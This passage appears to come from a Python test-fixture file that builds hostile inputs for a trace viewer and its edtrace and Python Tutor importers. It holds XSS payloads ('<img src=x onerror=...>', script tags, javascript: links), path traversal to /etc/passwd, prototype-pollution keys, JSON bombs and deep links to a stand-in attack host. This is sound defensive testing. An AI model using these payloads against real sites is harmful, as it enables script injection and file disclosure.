        "long-line-of-code": make(source="# prose\nx = '" + "a" * 2_000_000 + "'\nprint(x)\n"),
        "many-lines": make(source="# prose\nx = 1\nprint(x)\n" + "\n" * 1_000_000),
        "code-nested": make(source="# prose\nx = " + "(" * 5_000 + "\nprint(x)\n"),
        "code-unterminated": make(source='# prose\nx = """\nprint(x)\n' + "f'{" * 3_000),
    }
    for number, record in enumerate(whole):
        made[f"cut-before-{number}-{record['type']}"] = pack(whole[:number])
        line = json.dumps(record).encode()
        made[f"cut-inside-{number}-{record['type']}"] = gzip.compress(
            b"".join(json.dumps(item).encode() + b"\n" for item in whole[:number]) + line[: len(line) // 2], mtime=0
        )
    return {f"broken-{name}": data for name, data in made.items()}


# ------------------------------------------------------------------------------------------------ for the importers


def _edtrace(renderings: list[Any] | None = None, env: Any = None, **fields: Any) -> bytes:
    frame = {"path": "a.py", "line_number": 1, "function_name": "main", "code": "def main():"}
    step = {"stack": [frame], "env": env or {}, "renderings": renderings or []} | fields
    return json.dumps(
        {"files": {"a.py": "def main():\n    pass\n"}, "hidden_line_numbers": {}, "steps": [step]}
    ).encode()


def _tutor(heap: Any = None, **fields: Any) -> bytes:
    point = {"line": 1, "event": "step_line", "func_name": "<module>", "globals": {"x": ["REF", 1]}, "heap": heap or {}}
    return json.dumps({"code": "x = 1\n", "trace": [point | fields]}).encode()


def imported() -> dict[str, bytes]:
    """JSON that calls itself edtrace's or Python Tutor's."""
    link = {"type": "link", "data": IMG, "external_link": {"url": f"javascript:{JS}", "title": IMG, "authors": [IMG]}}
    frame = {"path": "../../../etc/passwd", "line_number": 1, "function_name": IMG, "code": IMG}
    made = {
        "markdown": _edtrace([{"type": "markdown", "data": text} for text in PROSE.values() if len(text) < 1_000]),
        "link": _edtrace([link, {"type": "link", "internal_link": {"path": IMG, "line_number": 2**70}, "data": None}]),
        "image-fetch": _edtrace([{"type": "image", "data": f"{SITE}/import-image-fetch.png"}]),
        "image-upward": _edtrace(
            [{"type": "image", "data": "../../../../etc/passwd"}, {"type": "video", "data": "/etc/passwd"}]
        ),
        "image-data": _edtrace([{"type": "image", "data": f"data:image/svg+xml;base64,{_SVG_DATA}"}]),
        "plot": _edtrace(
            [{"type": "plot", "data": spec} for kind, spec in JSON_OUTPUTS.values() if kind == "vegalite"]
        ),
        "graph": _edtrace([{"type": "graph", "data": {"nodes": [{"data": {"id": IMG}}, 5], "edges": [{"data": []}]}}]),
        "style": _edtrace(
            [{"type": "markdown", "data": "x", "style": {"backgroundImage": f"url({SITE}/style)", "width": IMG}}]
        ),
        "unknown-type": _edtrace([{"type": "html", "data": IMG}, {"type": ["x"], "data": {"a": 1}}, 7]),
        "names": _edtrace(env={"__proto__": {"type": IMG, "contents": IMG}, IMG: 1, "constructor": None}),
        "paths": _edtrace(stack=[frame]),
        "line-huge": _edtrace(stack=[frame | {"line_number": 2**60}]),
        "line-types": _edtrace(stack=[frame | {"line_number": True}]),
        "stack-empty": _edtrace(stack=[]),
        "stack-deep": _edtrace(stack=[frame] * 50_000),
        "steps-none": b'{"files": {}, "steps": []}',
        "steps-types": b'{"files": {}, "steps": [1, null, "x"]}',
        "nan": _edtrace(
            env={"x": {"type": "torch.Tensor", "dtype": "f", "shape": [3], "contents": [float("nan")] * 3}}
        ),
        "shape-lies": _edtrace(env={"x": {"type": "torch.Tensor", "shape": [2**40, -1, True], "contents": [[1]]}}),
        "value-deep": b'{"files":{},"steps":[' + b"[" * 100_000 + b"]" * 100_000 + b"]}",
        "value-nested": _edtrace(env={"x": json.loads("[" * 900 + "]" * 900)}),
        "int-huge": _edtrace(env={"x": 10**4000}),
        "float-huge": _edtrace(env={"x": 0}).replace(b'"x": 0', b'"x": 1e999'),
        "surrogates": _edtrace(env={"x": "\ud800", "\udfff": "\udc00"}),
        "bomb-lists": b'{"files":{},"steps":[' + b"[]," * 2_000_000 + b"0]}",
        "bomb-keys": b'{"files":{},"steps":{' + b'"a":{},' * 1_000_000 + b'"b":0}}',
        "not-json": b"<script>" + JS.encode() + b"</script>",
        "json-scalar": b"7",
        "other-json": json.dumps({"constructor": IMG}).encode(),
        "tutor-markup": _tutor(
            {"1": ["INSTANCE", IMG, [IMG, IMG]]}, func_name=IMG, stdout=IMG, exception_msg=IMG, event="exception"
        ),
        "tutor-cycle": _tutor({"1": ["LIST", ["REF", 1], ["REF", 1]]}),
        "tutor-doubling": _tutor({str(n): ["LIST", ["REF", n + 1], ["REF", n + 1]] for n in range(1, 60)}),
        "tutor-dangling": _tutor({"1": ["DICT", [["REF", 99], ["REF", -1]], 5, []]}),
        "tutor-types": _tutor(
            ["x"], stack_to_render=[{"func_name": 7, "frame_id": []}, 3], globals=[1], ordered_globals={}
        ),
        "tutor-line": _tutor(line=10**30),
        "tutor-frames": _tutor(stack_to_render=[{"func_name": "f", "frame_id": n} for n in range(20_000)]),
    }
    return {f"import-{name}": data for name, data in made.items()}


# --------------------------------------------------------------------------------------------------------------- all


def attacks() -> list[tuple[str, bytes]]:
    both = {name: make(prose=text, outputs=[shown("text/markdown", text)]) for name, text in PROSE.items()}
    both |= {
        name: make(
            prose=f"${text}$\n\n$$\n{text}\n$$\n",
            outputs=[
                shown("text/markdown", f"${text}$"),
                shown("text/latex", text),
                shown("text/latex", f"$${text}$$"),
            ],
        )
        for name, text in FORMULAS.items()
    }
    both |= {name: make(prose=text, outputs=[shown("text/html", text)]) for name, text in HTML.items()}
    for name, text in SVG.items():
        picture = blob(text.encode())
        both[name] = make(blobs=[picture], outputs=[shown("image/svg+xml", picture["hash"])])
    wrong = blob(f"<html>{IMG}</html>".encode(), "image/png")
    both["png-is-html"] = make(blobs=[wrong], outputs=[shown("image/png", wrong["hash"])])
    video = blob(f"<html>{IMG}</html>".encode(), "video/mp4")
    both["video-is-html"] = make(blobs=[video], outputs=[shown("video/mp4", video["hash"], alt=IMG)])
    for name, (kind, data) in JSON_OUTPUTS.items():
        both[name] = make(outputs=[shown(_MIMES[kind], json.dumps(data))])
    return [*both.items(), *names().items(), *broken().items(), *imported().items()]


ATTACKS = attacks()

# For the viewer's address: names that are no name of a trace, and steps that are no steps.
DEEP_LINKS = [
    "trace=../../../../etc/passwd",
    "trace=/etc/passwd",
    "trace=..%2f..%2fpyproject.toml",
    "trace=%00",
    "trace=http://attack.invalid/deep-link",
    "trace=//attack.invalid/deep-link",
    f"trace=javascript:{JS}",
    f"trace=<img src=x onerror={JS}>",
    "trace=__proto__",
    "trace=constructor&step=constructor",
    "trace=a&trace=b",
    "trace=" + "a" * 5_000,
    "step=-1",
    "step=1e308",
    "step=NaN",
    "step=99999999999999999999",
    f"step=<script>{JS}</script>",
    "step=0x10&step=2",
    "step=__proto__",
    f"x=1#<img src=x onerror={JS}>",
]
